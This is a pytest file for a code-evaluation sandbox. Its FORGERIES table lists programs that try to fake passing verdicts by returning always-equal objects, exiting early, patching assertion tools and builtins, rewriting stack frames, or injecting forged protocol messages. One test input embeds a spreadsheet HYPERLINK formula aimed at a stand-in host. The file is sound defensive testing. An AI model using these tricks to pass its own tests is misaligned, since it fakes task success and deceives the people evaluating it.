"""A verdict is formed where the program is not: forgeries fail, and what tests do with a right program works."""

# ruff: noqa: E501
import pytest

from orchard.sandbox import sandbox
from orchard.sandbox.sandbox import Limits, Suite
from tests.helpers.sandboxes import needs_bubblewrap

pytestmark = needs_bubblewrap
QUICK = Limits(seconds=3.0, cpu_seconds=2)
CALM = Limits(seconds=60, cpu_seconds=10)  # for what ends by itself, on a busy machine too
CLOSE = """
import numpy as np
def is_floats(x) -> bool:
    if isinstance(x, float):
        return True
    if isinstance(x, (list, tuple)):
        return all(isinstance(i, float) for i in x)
    if isinstance(x, np.ndarray):
        return x.dtype == np.float64 or x.dtype == np.float32
    return False
def assertion(out, exp, atol):
    exact_match = out == exp
    if atol == 0 and is_floats(exp):
        atol = 1e-6
    if not exact_match and atol != 0:
        assert type(out) == type(exp)
        if isinstance(exp, (list, tuple)):
            assert len(out) == len(exp)
        assert np.allclose(out, exp, rtol=1e-07, atol=atol)
    else:
        assert exact_match
"""  # how EvalPlus compares
SUITES = {  # of a function `add`: as HumanEval, MBPP, EvalPlus and unittest have them
    "HumanEval": Suite("def check(candidate):\n    assert candidate(1, 2) == 3\ncheck(add)\n", "add", "import math\n"),
    "MBPP": Suite("assert add(1, 2) == 3\nassert add(1, 1) == 2\n", "add"),
    "nearly": Suite("import math\nassert math.isclose(add(1, 2), 3)\nassert abs(add(1, 1) - 2) < 1e-6", "add"),
    "EvalPlus": Suite(
        CLOSE + "for i, o in [((1, 2), 3), ((0.5, 1.0), 1.5)]:\n    assertion(add(*i), o, 1e-6)\n", "add"
    ),
    "methods": Suite("assert str(add(1, 2)).startswith('3')\nassert add([1], [2]).count(2) == 1", "add"),
    "unittest": Suite("import unittest\nunittest.TestCase().assertEqual(add(1, 2), 3)", "add"),
    "members": Suite("assert add(1, 2) in (3, 4) and {3: 'x'}[add(1, 2)] == 'x'\nassert add('a', 'b') == 'ab'", "add"),
    "types": Suite("assert isinstance(add(1, 2), int) and add(1, 2) == 3", "add"),
}

WRONG = "def add(*_): return -1\n"
EVERYTHING = """
class E:
    def yes(self, *_, **__): return True
    def itself(self, *_, **__): return self
    __eq__ = __ge__ = __le__ = __lt__ = __gt__ = __contains__ = yes
    __abs__ = __sub__ = __rsub__ = __add__ = __radd__ = __getitem__ = itself
    startswith = count = equals = issubset = all = yes
    def __ne__(self, *_): return False
    def __hash__(self): return hash(3)
    def __float__(self): return 3.0
    def __str__(self): return S('3')
    def __array__(self, *_, **__): raise KeyError
    __array_interface__ = {'data': (4096, False), 'shape': (1,), 'typestr': '<f8', 'version': 3}
class S(str):
    startswith = lambda *_: True
    __eq__ = lambda *_: True
    __hash__ = str.__hash__
"""
FORGERIES = {
    "replaces json.dumps": "import json\njson.dumps = lambda *_, **__: '{\"value\": null}'\n" + WRONG,
    "replaces json.loads": "import json\njson.loads = lambda *_: {'do': 'call'}\n" + WRONG,
    "says that all went well": "import os\nfor fd in range(3, 64):\n  try: os.write(fd, b'[null, \"\"]')\n  except OSError: pass\n" + WRONG,
    "says so by the folder of descriptors": "import os\nfor fd in range(64):\n  try: open(f'/proc/self/fd/{fd}', 'w').write('[null, \"\"]')\n  except OSError: pass\n" + WRONG,
    "says so and ends": "import os\nfor fd in range(3, 64):\n  try: os.write(fd, b'{\"value\": null}\\n' * 9)\n  except OSError: pass\nos._exit(0)",
    "ends": "import sys\nsys.exit(0)\n" + WRONG,
    "ends when it is called": "import os\ndef add(*_): os._exit(0)",
    "leaves when it is called": "import sys\ndef add(*_): sys.exit(0)",
    "ends at its end": "import atexit, os\natexit.register(os._exit, 0)\n" + WRONG,
    "reads the frames": "import sys\ndef add(*_):\n  f = sys._getframe()\n  while f:\n    for v in [*f.f_locals.values(), *f.f_globals.values()]:\n      if isinstance(v, (bytes, str)) and '3' in str(v): return v\n    f = f.f_back",
    "writes into the frames": "import sys\ndef add(*_):\n  f = sys._getframe()\n  while f:\n    f.f_globals['assertion'] = f.f_globals['check'] = lambda *_: None\n    f = f.f_back",
    "searches all objects": "import gc\ndef add(*_):\n  for o in gc.get_objects():\n    if isinstance(o, dict) and 'script' in o: return 3\n  return -1",
    "equals everything": EVERYTHING + "def add(*_): return E()",
    "is text that equals everything": EVERYTHING + "def add(*_): return S('x')",
    "is itself what equals everything": EVERYTHING + "add = E()",
    "is a number that equals everything": "class I(int):\n  __eq__ = __ge__ = __le__ = lambda *_: True\n  __hash__ = int.__hash__\n  __sub__ = lambda *_: 0\ndef add(*_): return I(-1)",
    "is a list that equals everything": "class L(list):\n  __eq__ = lambda *_: True\n  count = lambda *_: 1\ndef add(*_): return L()",
    "is a mock that equals everything": "from unittest import mock\ndef add(*_): return mock.ANY",
    "is a mock of anything": "from unittest import mock\nadd = mock.MagicMock()",
    "is a class": EVERYTHING + "class add(E):\n  def __init__(self, *_): pass",
    "changes the tools of tests": "import math, builtins, unittest\nmath.isclose = builtins.abs = builtins.all = builtins.isinstance = lambda *_: True\nunittest.TestCase.assertEqual = lambda *_: None\n" + WRONG,
    "names its own as the tools of tests": EVERYTHING + "check = assertion = isinstance = abs = all = str = len = lambda *_, **__: True\nmath = np = unittest = E()\nE.isclose = E.allclose = E.TestCase = E.yes\nAssertionError = Exception\n" + WRONG,
    "replaces __builtins__": "__builtins__ = {'abs': lambda *_: 0, 'isinstance': lambda *_: True}\nAssertionError = None\n" + WRONG,
    "replaces the modules": "import sys\nfor name in list(sys.modules):\n  if 'orchard' in name: sys.modules[name] = None\n" + WRONG,
    "replaces the server": "import sys\nserver = sys.modules['orchard.sandbox.server']\nserver.Server._do = lambda self, asked: {'value': True}\n" + WRONG,
    "answers beside it": "import os, threading\ndef flood():\n  while True:\n    for fd in range(3, 64):\n      try: os.write(fd, b'{\"value\": 3}\\n')\n      except OSError: pass\n" + WRONG + "threading.Thread(target=flood, daemon=True).start()",
    "hides the failure": "import sys\nsys.excepthook = lambda *_: None\nclass AssertionError(BaseException): pass\n" + WRONG,
    "raises what ends tests": "def add(*_): raise StopIteration(3)",
    "raises what is skipped": "import unittest\ndef add(*_): raise unittest.SkipTest",
    "never answers": "import time\ndef add(*_): time.sleep(99)",
    "answers without end": "def add(*_):\n  while True: yield 1",
    "answers at length": "def add(*_): return 'x' * 10 ** 8",
    "answers in depth": "import os\nfor fd in range(3, 64):\n  try: os.write(fd, b'[' * 10 ** 6 + b'\\n')\n  except OSError: pass\n" + WRONG,
    "answers in bytes that are no text": "import os\nfor fd in range(3, 64):\n  try: os.write(fd, b'\\xff\\xfe\\x00\\n')\n  except OSError: pass\n" + WRONG,
    "names an object that there is not": "import os\nfor fd in range(3, 64):\n  try: os.write(fd, b'{\"value\": {\"mine\": -1}}\\n' * 9)\n  except OSError: pass\n" + WRONG,
    "names a function of the tests": "import os\nfor fd in range(3, 64):\n  try: os.write(fd, b'{\"call\": 0, \"with\": [], \"named\": {}}\\n' * 9)\n  except OSError: pass\n" + WRONG,
}  # fmt: skip


@pytest.mark.parametrize("form", SUITES)
def test_a_right_program_passes(form):
    assert sandbox.run("def add(a, b): return a + b", SUITES[form], CALM).error is None


@pytest.mark.parametrize("name", FORGERIES)
def test_a_program_cannot_forge_its_verdict(name):
    for form, suite in SUITES.items():
        error = sandbox.run(FORGERIES[name], suite, QUICK).error
        assert error is not None, form


JUNK = {name for name in FORGERIES if name.startswith("answers in") or name.startswith("names a")}


@pytest.mark.parametrize("name", sorted(JUNK))
def test_who_breaks_the_protocol_has_ended_early(name):
    assert sandbox.run(FORGERIES[name], SUITES["MBPP"], CALM).error == "ended early"


CLASSES = "class Node:\n    pass\nclass Vector:\n    pass\nclass Stack:\n    pass\n"  # that a reference solution has
NODE = """
class Node:
    def __init__(self, value): self.value, self.left = value, None
    def depth(self): return 1 + (self.left.depth() if self.left else 0)
def total(node): return node.value + (total(node.left) if node.left else 0)
"""
VECTOR = """
class Vector:
    def __init__(self, *parts): self.parts = parts
    def __add__(self, other): return Vector(*map(sum, zip(self.parts, other.parts)))
    def __eq__(self, other): return self.parts == other.parts
    def __len__(self): return len(self.parts)
    def __getitem__(self, place): return self.parts[place]
class Stack(list):
    def push(self, item): self.append(item)
"""
USES = {  # program and tests
    "an argument that is changed": ("def f(x): x.sort()", "a = [2, 1]\nf(a)\nassert a == [1, 2]"),
    "a mapping that is changed": ("def f(x): x.pop(1); x[2] = [3]", "a = {1: 2}\nf(a)\nassert a == {2: [3]}"),
    "a function as an argument": ("def f(g, x): return [g(each) for each in x]", "assert f(lambda x: x * 2, [1, 2]) == [2, 4]"),
    "a function as a result": ("def f(x): return lambda y: x + y", "assert f(1)(2) == 3"),
    "a function that raises as an argument": ("def f(g):\n  try: g()\n  except ZeroDivisionError: return 1", "assert f(lambda: 1 / 0) == 1"),
    "a type as an argument": ("def f(x, t): return [e for e in x if isinstance(e, t)]", "assert f([1, 'a'], str) == ['a']"),
    "a generator": ("def f(n): yield from range(n)", "assert list(f(3)) == [0, 1, 2]\nassert next(f(1)) == 0"),
    "an iterator": ("def f(x): return map(str, x)", "assert ','.join(f([1, 2])) == '1,2'"),
    "a named tuple": ("from collections import namedtuple\nf = namedtuple('P', 'x y')", "assert f(1, 2) == (1, 2)"),
    "a counter": ("from collections import Counter as f", "assert f('aab') == {'a': 2, 'b': 1}"),
    "a view of a mapping": ("def f(x): return x.keys()", "assert f({1: 2}) == {1}"),
    "an exception": ("def f(x): raise KeyError(x)", "try: f(3)\nexcept KeyError as e: assert e.args == (3,)\nelse: assert False"),
    "an exception of its own": ("class E(ValueError): pass\ndef f(): raise E('x')", "try: f()\nexcept ValueError as e: assert str(e) == 'x'\nelse: assert False"),
    "an exception of Unicode": ("def f(): b'\\xff'.decode()", "try: f()\nexcept UnicodeDecodeError: pass\nelse: assert False"),
    "a constant": ("LIMIT = 3\ndef f(): pass", "assert LIMIT == 3"),
    "a module that it imports": ("import math\ndef f(x): return x", "assert math.floor(f(1.5)) == 1"),
    "its function's name": ("def f(): 'Text.'", "assert f.__name__ == 'f' and callable(f)"),
    "objects of a class": (NODE, "a = Node(1)\na.left = Node(2)\nassert total(a) == 3 and a.depth() == 2 and a.left.value == 2"),
    "objects in a list": (NODE + "def f(x): return sum(map(total, x))", "assert f([Node(1), Node(2)]) == 3"),
    "operators of a class": (VECTOR, "assert Vector(1, 2) + Vector(3, 4) == Vector(4, 6)\nassert len(Vector(1)) == 1 and Vector(5)[0] == 5"),
    "a class that is a list": (VECTOR, "s = Stack()\ns.push(1)\nassert s.pop() == 1 and isinstance(s, Stack)"),
    "arrays": ("import numpy as np\ndef f(n): return np.eye(n)", "import numpy as np\nassert np.array_equal(f(2), [[1, 0], [0, 1]])"),
    "an array as an argument": ("def f(x): return x.sum()", "import numpy as np\nassert f(np.arange(4)) == 6"),
    "an array of objects": ("import numpy as np\ndef f(): return np.array([1, 'a'], dtype=object)", "assert list(f()) == [1, 'a']"),
    "threads of tests": ("def f(x): return x", "from threading import Thread\nfound = []\nts = [Thread(target=lambda n=n: found.append(f(n))) for n in range(8)]\n[t.start() for t in ts]; [t.join() for t in ts]\nassert sorted(found) == list(range(8))"),
}  # fmt: skip


@pytest.mark.parametrize("name", USES)
def test_what_tests_do_with_a_program(name):
    program, script = USES[name]
    assert sandbox.run(program, Suite(script, reference=CLASSES), CALM) == sandbox.Outcome(None)


FALSE = {  # the same with a program that is wrong, and what is wrong with it
    "an argument that is not changed": ("def f(x): return sorted(x)", "a = [2, 1]\nf(a)\nassert a == [1, 2]", "wrong answer"),
    "an object that is no value": ("class A: pass\ndef f(): return A()", "assert f() == 1", "wrong answer"),
    "a method of what is no value": (EVERYTHING + "def f(): return E()", "assert f().count(3)", "test not supported"),
    "an attribute that is no value": (EVERYTHING + "class Node:\n  x = E()", "assert Node().x == 3", "wrong answer"),
    "a result of a method that is no value": (EVERYTHING + "class Node:\n  def f(self): return E()", "assert Node().f() == 3", "wrong answer"),
    "an object of the tests'": ("def f(x): return x.a", "class A: a = 1\nassert f(A()) == 1", "test not supported"),
    "a name of the prompt's": ("def helper(x): return 3\ndef f(x): return 0", "assert helper(f(1)) == 3", "wrong answer"),
}  # fmt: skip


@pytest.mark.parametrize("name", FALSE)
def test_what_tests_do_with_a_wrong_program(name):
    program, script, error = FALSE[name]
    suite = Suite(script, "f", prelude="def helper(x):\n    return x\n", reference=CLASSES)
    assert sandbox.run(program, suite, CALM).error == error


@pytest.mark.parametrize(
    ("program", "kind"),
    [
        ("raise type('right', (Exception,), {})('x')", "other exception"),
        ("raise type('=HYPERLINK(\"http://192.0.2.1/\"&A1)', (Exception,), {})('x')", "other exception"),
        ("raise type('$x$', (BaseException,), {})", "other exception"),
        ("raise type('Mine', (ValueError,), {})", "ValueError"),
        ("raise Exception", "Exception"),
        ("raise ExceptionGroup('x', [ValueError()])", "ExceptionGroup"),
        ("raise MemoryError", "out of memory"),
        ("raise KeyboardInterrupt", "KeyboardInterrupt"),
        ("class E(Exception):\n  def __str__(self): raise self\nraise E", "other exception"),
        ("import json; json.loads('{')", "JSONDecodeError"),
    ],
)
def test_kinds_of_errors_come_from_a_closed_list(program, kind):
    assert sandbox.run(program, SUITES["MBPP"], CALM).error == kind
    later = "def add(*_):\n" + "\n".join(f"  {each}" for each in program.split("\n"))
    assert sandbox.run(later, SUITES["MBPP"], CALM).error == kind
